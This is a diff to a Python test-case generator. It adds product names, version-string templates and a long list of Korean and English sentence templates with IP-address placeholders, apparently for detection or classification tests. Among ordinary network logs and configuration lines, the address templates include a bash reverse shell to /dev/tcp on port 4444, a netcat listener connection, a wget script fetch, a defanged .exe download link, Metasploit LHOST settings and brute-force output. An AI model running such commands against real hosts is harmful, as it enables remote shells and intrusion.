@@ -37,6 +37,17 @@ OBS Studio|Blender|AutoCAD|MATLAB|SPSS|SAS|Revit|SketchUp|HWP|foo|libfoo|mylib|t
 istio|consul|vault|terraform|ansible|puppet|chef|zabbix|nagios|haproxy|squid|bind9|bind|unbound|postfix|dovecot|vsftpd|proftpd|samba|exim|varnish|
 caddy|traefik|etcd|rabbitmq|activemq|zookeeper|cassandra|clickhouse|couchbase|solr|lucene|log4j|spring-boot|struts|jquery|react|vue|angular|webpack|
 django|flask|laravel|rails
+|
+은행앱|증권앱|쇼핑앱|배달앱|신한 쏠|카카오뱅크|케이뱅크|농협 스마트뱅킹|정부24|홈택스|위택스|민원24|PASS 앱|네이버 앱|다음 앱|줌 앱|밴드|라이브 서버 빌드|테섭|본섭|롬|커롬|순정 롬|커널 패치|결제 모듈|암호화 모듈|본인확인 모듈|뱅킹 보안 프로그램|
+엔프로텍트|터치엔|베라포트|아이세이프|라온시큐어|그누보드|영카트|제로보드|워드프레스|우커머스|엘리멘터|카페24|고도몰|스마트스토어 앱|지포스|라데온|아드레날린|갤럭시 버즈|갤럭시 워치|에어팟|애플워치|아이패드|아이폰|갤럭시|다빈치 리졸브|베가스|큐베이스|에이블톤|로직|
+블렌더|스케치업|레빗|라이노|솔리드웍스|카티아|앤시스|델파이|파워빌더|비주얼 스튜디오|안드로이드 스튜디오|이클립스|인텔리제이|하둡|스파크|로그스태시|키바나|그라파나|프로메테우스|이스티오|앤서블|테라폼|소나큐브|넥서스|비트버킷|레드마인|시놀로지|큐냅|아이피타임|넷기어|
+시스코|포티넷|팔로알토|주니퍼|체크포인트|시큐아이|지니언스|파수|마크애니|엘든링|스카이림|심즈|옵티파인|포지|패브릭|리니지|검은사막|피파온라인|카트라이더|서든어택|디아블로|스타크래프트|하스스톤|젤다|닌텐도 스위치|플스5 펌웨어|엑스박스|MSI Afterburner|
+HWiNFO|CrystalDiskInfo|Rufus|CCleaner|qBittorrent|Plex Media Server|Emby Server|Jellyfin|Kodi|HandBrake|LibreOffice|Thunderbird|PuTTY|MobaXterm|WinSCP|
+FileZilla|FileZilla Server|RealVNC|RustDesk|Tailscale|ZeroTier|pfSense|OPNsense|RouterOS|UniFi Network|Aruba|BIG-IP|F5 BIG-IP|Citrix ADC|NetScaler|
+Ivanti|MOVEit|Confluence|Jira|Bitbucket Server|TeamCity|Bamboo|Artifactory|Nexus|SonarQube|Keycloak|WildFly|JBoss|GlassFish|Payara|Jetty|Undertow|
+Netty|OkHttp|okhttp|axios|Foxmail|Dalvik|Cronet|Unity Player|UnityPlayer|Roblox|Minecraft|Bedrock|Forge|Valorant|PUBG|Genshin|Overwatch|Battle.net|
+Epic Games Launcher|Origin|GOG Galaxy|Nox|BlueStacks|LDPlayer|ADB|Fastboot|Gboard|Play Services|Google Play services|WebKit|Gecko|Presto|Blink|V8|
+SpiderMonkey|Hermes|the driver|the firmware|the build|our release|the plugin|the runtime|the server|my phone|this client|the extension
 """
 PRODUCT_FRAMES = r"""
 {word} {v}
@@ -322,6 +333,215 @@ client version {v}
 서버 버전 {v}
 서버 버전: {v}
 protocol version {v}
+The patch landed in {v}.
+The fix is in {v}.
+You need {v}.
+You need at least {v}.
+Please use {v} instead.
+Please try {v}
+We reproduced it on {v} and {v}.
+We tested {v} and {v}.
+I tested with {v} and it works
+Works in {v}, broken in {v}
+Works fine on {v}
+Not working on {v}
+It worked in {v}
+Broken since {v}
+Broke after {v}
+I'm on {v} and it still happens
+I am using {v}
+I have {v} installed
+currently on {v}
+stuck on {v}
+stay on {v}
+Downgrading to {v} helps
+Rolling back to {v} fixed it
+After upgrading from {v} to {v} nothing works
+After upgrading to {v} the server refuses connections
+When I updated to {v} the connection dropped
+older than {v}
+newer than {v}
+Clients older than {v} cannot connect
+client {v} cannot connect to server {v}
+affects all builds up to {v}
+all versions through {v}
+{v} has a memory leak
+{v} has a bug
+{v} dropped support for Windows 7
+{v} adds dark mode
+{v} introduced a regression
+{v} broke the login
+{v} works fine
+{v} is the latest
+{v} is required
+{v} is not supported
+{v} is available for download
+{v} changes the default port
+{v} will be out on Monday
+{v} came out yesterday
+{v} contains security fixes
+{v} vs {v}
+{v} 롬 올려 봤습니다
+{v} 업뎃하고 나서
+{v} 깔지 마세요
+{v} 후기
+{v} 써 봤는데
+{v} 쓰는 중인데
+{v} 쓰면 접속이 안 돼요
+{v} 적용 안내
+{v} 적용했습니다
+{v} 밸런스 조정
+{v} 신규 캐릭터
+{v} 점검 내역
+{v} 크래시
+{v} 다운그레이드
+{v} 파일 좀 주세요
+{v} 설치 파일
+{v} 설치파일 있으신 분
+{v} 지우고 다시 깔았어요
+{v} 벽돌
+{v} 버그
+{v} 버그 있네요
+{v} 오류
+{v} 호환
+{v} 호환되나요
+{v} 이전으로 못 돌아감
+{v} 이후 버전
+{v}가 최신입니다
+{v}가 나왔습니다
+{v}가 배포됐습니다
+{v}인데 자꾸 튕겨요
+{v}인데 업데이트가 안 떠요
+{v}에서는 잘 됐는데
+{v}에서 버그가 생겼어요
+{v}에서 튕깁니다
+{v}에서 조정된 캐릭터
+{v}에서 {v}로 올린 뒤 서버가 안 붙어요
+{v}으로 바뀝니다
+{v}로 바뀌면서 로그인이 풀림
+{v}로 올려도 되나요
+{v}를 설치해 주세요
+{v}를 받아서 설치
+{v} 대신 {v}을 쓰세요
+점검 후 {v}로 바뀝니다
+앱이 {v}로 올라가고 나서
+클라이언트가 {v}로 바뀝니다
+오늘 {v} 나왔습니다
+이번 패치 {v}
+다음 패치는 {v}입니다
+설치된 것은 {v}
+구버전 {v}
+신버전 {v}
+구버전({v})
+최신판 {v}
+공식 {v}
+안정판 {v}
+베타 {v}
+테스트 버전 {v}
+취약한 버전 {v}
+패치된 버전 {v}
+업데이트 {v}
+패치 {v}
+핫픽스 {v}
+수정본 {v}
+배포본 {v}
+지원 버전: {v} ~ {v}
+영향받는 버전⇥{v}
+제품명⇥버전
+뷰어⇥{v}
+| 제품 | 버전 |
+|---|---|
+| 뷰어 | {v} |
+이름,버전
+뷰어,{v}
+name,version,date
+foo,{v},2024-01-02
+Package⇥Version
+foo⇥{v}
+[INFO] Agent {v} started
+INFO: starting v{v} on port 8080
+Starting foo {v}
+foo v{v}
+foo ({v})
+foo {v} has requirement bar
+Server: foo/{v} (Unix)
+User-Agent: foo/{v}
+X-Powered-By: foo/{v}
+X-Mailer: foo {v}
+X-AspNet-Version: {v}
+Via: 1.1 foo (bar/{v})
+"foo";v="{v}"
+sec-ch-ua-full-version: "{v}"
+appVersion: {v}
+agentVersion={v}
+minVersion: "{v}"
+"appVersion":"{v}"
+"minAppVersion": "{v}"
+"engines": {"node": "{v}"}
+"latest": "{v}"
+"current": "{v}", "latest": "{v}"
+"build": "{v}"
+ro.build.version={v}
+ver={v}
+?v={v}
+app.js?ver={v}
+style.css?v={v}
+<Identity Name="Foo" Version="{v}" />
+<bindingRedirect oldVersion="0.0.0.0-{v}" newVersion="{v}" />
+Version={v}, Culture=neutral
+#define VERSION "{v}"
+set(FOO_VERSION {v})
+project(foo VERSION {v})
+VERSION: {v}
+const VERSION = "{v}";
+string version = "{v}";
+Requirement already satisfied: foo ({v})
+Successfully installed foo-{v}
+Collecting foo>={v}
+Unpacking foo ({v}) over ({v}) ...
+Setting up foo ({v}) ...
+foo.x86_64    {v}-3.el7    @base
+foo/stable {v} amd64
+Get:1 http://kr.archive.foo.com jammy/main amd64 foo amd64 {v} [12 kB]
+ii  foo   {v}   amd64
+added foo@{v}
+├── foo@{v}
+└── bar@{v}
+foo: {v} -> {v}
+foo {v} → {v}
+"resolved": "https://registry.foo.com/foo/-/foo-{v}.tgz"
+https://github.com/a/b/releases/tag/{v}
+https://github.com/a/b/compare/{v}...main
+https://dl.foo.com/pub/{v}/win64
+https://foo.com/download?version={v}
+s3://bucket/releases/{v}/app.zip
+ghcr.io/a/b:{v}
+quay.io/a/b:v{v}
+registry.foo.kr/team/app:{v}
+image: ghcr.io/a/b:{v}
+%LOCALAPPDATA%\Foo\app-{v}
+C:\Windows\WinSxS\x86_foo_{v}_none
+/data/app/com.foo-{v}/base.apk
+./foo-{v}/configure
+cd foo-{v}
+tar xzf foo-{v}.tar.gz
+git clone -b {v} https://foo.com/a.git
+git diff {v} {v}
+git log {v}..HEAD
+nvm install {v}
+sdk install java {v}
+pyenv install {v}
+conda install foo={v}
+cargo add foo@{v}
+go get foo.com/bar@v{v}
+rustc {v}
+go {v}
+ruby '{v}'
+gem 'foo', '~> {v}'
+"foo/bar": ">={v}",
+foo = { version = "{v}" }
+compile 'foo:bar:{v}'
+//bazel:foo_{v}
 """
 SECTION_FRAMES = r"""
 {s}
@@ -423,6 +643,299 @@ serial {s}
 model {s}
 score {s}
 ratio {s}
+"""
+ADDRESS_FRAMES = r"""
+{4}가 게시판을 도배하고 있어요
+{4} 이 사람이 계속 욕을 합니다
+{4} 욕설 도배
+{4} 영구 차단 부탁드립니다
+{4}랑 {4} 같은 사람 같아요
+{4} 어디 통신사인지 아시는 분
+{4} 조회해 보니 강남구로 나옵니다
+{4} 이렇게 나오는데 정상인가요
+{4} 여기 들어가 보세요
+{4} 접속 안 되는 사람
+{4} 들어가지나요
+{4} 열려 있습니다
+{4} 살아 있나요
+{4} 죽었네요
+{4} 내려갔습니다
+{4} 로스 30%
+{4} 평균 8ms
+{4} is down
+{4} is unreachable
+{4} is alive
+{4} is blocked
+{4} is listed on a blocklist
+{4} keeps scanning us
+{4} tried to log in
+{4} resolves to foo.com
+{4} does not respond
+{4} belongs to Korea Telecom
+who owns {4}
+traffic to {4}
+traffic from {4}
+requests from {4} and {4}
+Scans from {4} and {4}
+attacks from {4} since yesterday
+blocked {4} at the firewall
+I pinged {4} and got nothing
+It resolves to {4}
+The DNS points to {4}
+moved to {4}
+migrated from {4} to {4}
+from {4} to 10.0.0.3
+My VPS ({4}) got suspended
+Our web server ({4}) is slow
+edit was made by {4}
+reverted edits by {4}
+Your login from {4} (Busan, KR) was unusual
+기존 {4}, 신규 {4}
+변경 전 {4} 변경 후 {4}
+이전: {4} → 이후: {4}
+as-is {4} / to-be {4}
+1차 {4}, 2차 {4}
+주 {4} 보조 {4}
+출발지 {4}, 목적지 {4}, 443
+그대로 {4} 조회
+국가 KR / {4} / SK Broadband
+KR {4}
+{4} KR
+{4} (KR)
+{4}, 대한민국
+· {4} · 2024년 1월 2일
+{4} 2024-01-02 10:11
+2024-01-02 10:11 {4}
+10:11:12 {4}
+[{4}] 10:11
+kko.kr -> {4}
+kko.kr => {4}
+kko.kr {4}
+kko.kr has address {4}
+kko.kr⇥{4}
+{4} kko.kr
+{4}⇥kko.kr www.kko.kr
+A⇥@⇥{4}⇥3600
+@ IN A {4}
+www 300 IN A {4}
+PTR {4}
+ip4:{4}
+snat to {4}
+dnat to {4}:80
+nat {4}
+tunnel destination {4}
+tunnel source {4}
+ tunnel destination {4}
+ tunnel-destination {4};
+ ip address {4} 255.255.255.0
+ network {4} 0.0.0.0 area 0
+ neighbor {4} activate
+ set ip next-hop {4}
+ host {4}
+permit ip host {4} any
+permit tcp any host {4} eq 443
+deny ip host {4} any log
+access-list 10 permit {4}
+object-group network X
+ host {4}
+crypto isakmp key abc address {4}
+set peer {4}
+static-route {4}
+arp {4}
+show ip bgp {4}
+ntp server {4}
+ntpdate {4}
+logging {4}
+logging host {4}
+syslog {4}
+snmp-server host {4}
+ip name-server {4}
+ip helper-address {4}
+ip route 58.0.0.0 255.0.0.0 {4}
+route add default gw {4}
+default via {4} dev eth0
+via {4} dev eth1
+{4} dev eth0 lladdr 00:11:22:33:44:55
+ARP, Request who-has {4} tell {4}
+ping {4}
+ping -c 3 {4}
+ping -t {4}
+mtr {4}
+mtr -rw {4}
+tracert {4}
+nmap -sV {4}
+nc -vz {4} 22
+nc {4} 4444
+telnet {4} 23
+ssh {4}
+ssh root@{4}
+ssh -p 2222 kim@{4}
+scp a.txt kim@{4}:~
+curl {4}
+curl -v {4}:8080
+curl http://{4}/ip
+wget {4}/a.sh
+dig @{4} foo.com
+dig -x {4}
+host {4}
+whois {4}
+nslookup foo.com {4}
+mysql -h {4} -u root
+mysql -h {4}
+psql -h {4} -U app
+redis-cli -h {4}
+mongo {4}/db
+sqlcmd -S {4}
+iperf3 -c {4}
+hping3 -S {4}
+xfreerdp /v:{4}
+mstsc /v:{4}
+mstsc {4}
+RDP {4}
+VNC {4}:5901
+sftp kim@{4}
+ftp {4}
+net use z: \\{4}\data
+\\{4}\share
+mount -t nfs {4}:/data /mnt
+mount -t cifs //{4}/data /mnt
+bash -i >& /dev/tcp/{4}/4444 0>&1
+msf > set RHOSTS {4}
+set LHOST {4}
+RHOSTS => {4}
+LHOST => {4}
+Nmap scan report for {4}
+Host: {4} ()
+Discovered open port 22/tcp on {4}
+Not shown: 998 closed ports on {4}
+[22][ssh] host: {4} login: root
+app.listen(80, '{4}')
+server.bind(("{4}", 80))
+sock.connect(("{4}", 4444))
+s.sendto(data, ("{4}", 53))
+http.listen(8080, "{4}")
+connect("{4}")
+open("{4}")
+block('{4}')
+inet_addr("{4}")
+ipaddress.ip_address("{4}")
+InetAddress.getByName("{4}")
+new IPEndPoint(IPAddress.Parse("{4}"), 80)
+net.ParseIP("{4}")
+socket.gethostbyaddr("{4}")
+x = "{4}"
+[ "{4}", "{4}" ]
+['{4}', '{4}']
+- {4}
+- "{4}"
+- {4}
+- {4}
+  - {4}:9200
+{4}
+{4}
+{4} {4}
+{4},{4}
+{4};
+{4}
+"{4}",
+`{4}`
+**{4}**
+({4})
+<{4}>
+{4}:443
+{4}:22 {4}:51022
+{4}.51514 > {4}.443: Flags [S]
+{4} > {4}: ICMP echo request
+{4} -> {4}
+{4}:1234 -> {4}:80
+1 {4} 1.2 ms
+ 3  {4}  12.1 ms  11.9 ms
+  3    12 ms    11 ms    13 ms  {4}
+  4   *  *  {4}  22.1 ms
+Reply from {4}: bytes=32 time=9ms TTL=55
+64 bytes from {4}: icmp_seq=1 ttl=55
+From {4} icmp_seq=2 Destination Host Unreachable
+Last login: Tue Mar  4 10:11:12 from {4}
+kim pts/0 {4} 10:11
+kim  pts/0  Mar  3 09:00  ({4})
+Failed password for root from {4} port 22
+Accepted password for kim from {4}
+Disconnected from {4} port 22
+Invalid user admin from {4}
+Connection closed by {4}
+Unban {4}
+NOTICE [sshd] Ban {4}
+connect from unknown[{4}]
+lost connection after AUTH from unknown[{4}]
+client: {4}, server: foo.com
+[client {4}:51022]
+{4} - - [01/Jan/2024:00:00:00 +0900] "GET / HTTP/1.1" 200
+{4} "GET /login"
+{4} GET /login 200
+{4} 200 12ms
+12 {4}
+   34 {4}
+340⇥{4}
+1⇥{4}⇥3
+No. 1 {4}
+#1 {4}
+dial tcp {4}:5432: connect: connection refused
+Failed to connect to {4} port 443
+connect ECONNREFUSED {4}:80
+No route to host: {4}
+Cannot reach {4}
+Could not resolve {4}
+Host '{4}' is not allowed
+'app'@'{4}'
+(HOST={4})(PORT=1521)
+Data Source={4},1433
+Server={4};Database=erp
+jdbc:oracle:thin:@{4}:1521:orcl
+jdbc:mysql://{4}:3306/shop
+postgres://app:x@{4}:5432/app
+amqp://{4}
+ldap://{4}:389
+rtsp://{4}/live
+http://{4}
+https://{4}:8443/admin
+<a href="http://{4}/">여기</a>
+hxxp://{4}/a.exe
+hxxp[:]//{4}/
+case "{4}":
+REMOTE_ADDR == '{4}'
+if ip == "{4}":
+require ip {4}
+Allow from {4}
+deny {4};
+allow {4}/32;
+server {4} weight=2;
+server a {4}:80 check
+  server web1 {4}:80 check
+backend {4}
+cache_peer {4} parent 3128 0
+forwarders { {4}; {4}; };
+also-notify { {4}; };
+masters { {4}; };
+acl trusted { {4}; };
+listen-on { {4}; };
+cip:{4}
+v4 {4}
+IPv4: {4}
+NAME ADDRESS
+a {4}
+IP⇥COUNT
+{4}⇥3
+이름⇥접속지
+김길동⇥{4}
+일시,주소
+2024-01-02,{4}
+<b>{4}</b>님
+{4}님이 입장하셨습니다
+{4}님이 나갔습니다
+사용자:{4}
+{4}의 기여 내역
+{4}(토론)
+특수:기여/{4}
 """
 NETWORK = """
 서버|웹서버|웹 서버|게임 서버|메일 서버|디비 서버|DB 서버|프록시|호스트|주소|서버 주소|공인 주소|외부 주소|고정 주소|접속 주소|접속지|접속처|발신지|출발지|목적지|게이트웨이|라우터|공유기|네임서버|원격지|상대방|공격자|공격지|해커|범인|봇|좀비 PC|
@@ -536,7 +1049,7 @@ def crossed_cases(seed: int = 1) -> list[Case]:
     ):
         texts += [frame.replace("{word}", word) for word in words for frame in draw.sample(frames, count)]
         texts += [frame.replace("{word}", word) for frame in frames for word in draw.sample(words, 4)]
-    texts += [frame for frame in _lines(VERSION_FRAMES) for _ in range(2)]
+    texts += [frame for frame in (*_lines(VERSION_FRAMES), *_lines(ADDRESS_FRAMES)) for _ in range(2)]
     for frame in _lines(SECTION_FRAMES):
         texts += [frame, frame.replace("{s}", "{v}")]
     return [_fill(text.replace("⏎", "\n").replace("⇥", "\t"), draw) for text in texts]
